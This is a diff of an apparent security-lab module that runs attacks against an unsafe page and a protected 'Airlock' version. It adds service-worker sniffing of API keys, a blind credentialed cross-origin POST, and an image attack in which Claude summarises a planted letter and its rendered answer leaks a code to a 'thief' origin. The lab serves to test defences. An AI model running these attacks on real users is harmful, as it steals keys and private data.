@@ -1,4 +1,4 @@
-// The nine attacks. Both halves run this very file: the unsafe page in its own tab, Airlock's in the lab.
+// The ten attacks. Both halves run this very file: the unsafe page in its own tab, Airlock's in the lab.
 //
 // Each takes the place that it runs in and gives `{ found, lines }`: what it stole, or null, and what it saw on the way. A place has
 //   page       the path of the page to search
@@ -7,6 +7,11 @@
 //   say        sends a body, an object or a text, to the page's server, with options of fetch
 //   dear       a model that the page does not offer
 //   loot       where a thief would carry things
+//   hear       asks Claude a question as the page does, and gives the answer's words
+//   thief      the origin that an image in an answer names
+//   collected  what arrived there
+//   airlock    where the attack is run on the unsafe half, and it is known: Airlock's origin
+import { draw, letter } from "./careless.js";
 
 /**
  * What a key looks like: its beginning, its kind, and so many characters as the lab's have. The length counts, since in a program
@@ -44,6 +49,36 @@ async function overhear(act) {
     globalThis.fetch = real;
   }
   return heard;
+}
+
+/** How long a worker's word may take once the request that it is about has been answered. */
+const WORD_MS = 2_000;
+
+/** Puts a service worker beneath the page while `act` runs, and gives what it heard, or why there was none. */
+async function overhearFromBelow(act) {
+  const { serviceWorker } = navigator;
+  let worker;
+  try {
+    worker = await serviceWorker.register("/listener.js");
+  } catch (error) {
+    return { heard: [], line: `a worker beneath the page: refused, ${short(error.message)}` };
+  }
+  try {
+    const isInCharge = new Promise((done) => serviceWorker.addEventListener("controllerchange", done, { once: true }));
+    if (!serviceWorker.controller) await isInCharge;
+    const heard = [];
+    const isTold = new Promise((done) => {
+      serviceWorker.onmessage = ({ data }) => {
+        heard.push(data);
+        if (keyHeard(heard)) done();
+      };
+    });
+    await act();
+    await Promise.race([isTold, new Promise((done) => setTimeout(done, WORD_MS))]);
+    return { heard, line: `a worker beneath the page: heard ${heard.map(({ method, url }) => `${method} ${url}`).join(", ")}` };
+  } finally {
+    await worker.unregister();
+  }
 }
 
 const asText = ({ method, url, headers }) => [`${method} ${url}`, ...headers.map(([name, value]) => `  ${name}: ${short(value)}`)];
@@ -110,6 +145,21 @@ async function attempt(place, what, body, options) {
     return { is_through: answer.ok, id, line: `${what}: ${answer.ok ? "let through" : "refused"}, ${answer.status}` };
   } catch {
     return { is_through: false, id: null, line: `${what}: no answer` };
+  }
+}
+
+/**
+ * Asks Airlock from a page of another origin, with the visitor's cookie, in the only way that a browser lets such a page try: blindly.
+ * Whether it was refused, this page is not even told; the browser's own tools show it.
+ */
+async function fromElsewhere(airlock) {
+  const blindly = { method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify(question()) };
+  const what = `from this origin to Airlock (${airlock})`;
+  try {
+    const answer = await fetch(`${airlock}/api/chat`, blindly);
+    return `${what}: answered, ${answer.status || "out of this page's sight"}`;
+  } catch {
+    return `${what}: nothing that this page may read; the Network tab shows 403`;
   }
 }
 
@@ -194,7 +244,9 @@ export const attacks = {
     } catch {
       lines.push("carried away: no, the page's policy lets nothing leave its origin");
     }
-    return result(keyHeard(heard), lines);
+    const below = await overhearFromBelow(place.ask);
+    lines.push(below.line);
+    return result(keyHeard([...heard, ...below.heard]), lines);
   },
 
   async disguise(place) {
@@ -220,6 +272,7 @@ export const attacks = {
     const burst = await Promise.all(Array.from({ length: BURST }, (_, index) => attempt(place, `burst ${index}`, question())));
     const through = burst.filter(({ is_through }) => is_through).length;
     const lines = [...tries.map(({ line }) => line), `${BURST} at once: ${through} let through`];
+    if (place.airlock) lines.push(await fromElsewhere(place.airlock));
     const isThrough = tries.some(({ is_through }) => is_through) || through === BURST;
     return result(isThrough ? (tries[1].id ?? "its owner's money") : null, lines);
   },
@@ -239,6 +292,17 @@ export const attacks = {
       found ??= key(text);
     }
     return result(found, lines);
+  },
+
+  async image(place) {
+    // A word of its own, so that what arrives can be told from what arrived before.
+    const code = crypto.randomUUID().slice(0, 8);
+    const answer = await place.hear(letter(place.thief, `My booking code is ${code}. Sum up this letter.`));
+    const images = await draw(answer, document.createElement("div"));
+    const loot = (await place.collected()).find(({ said }) => said.includes(code));
+    const lines = images.map(({ src, has_come }) => `the answer names ${src}: ${has_come ? "loaded" : "not loaded"}`);
+    lines.push(loot ? `the thief received “${loot.said}”` : "the thief received nothing of it");
+    return result(loot?.receipt, lines);
   },
 };
 
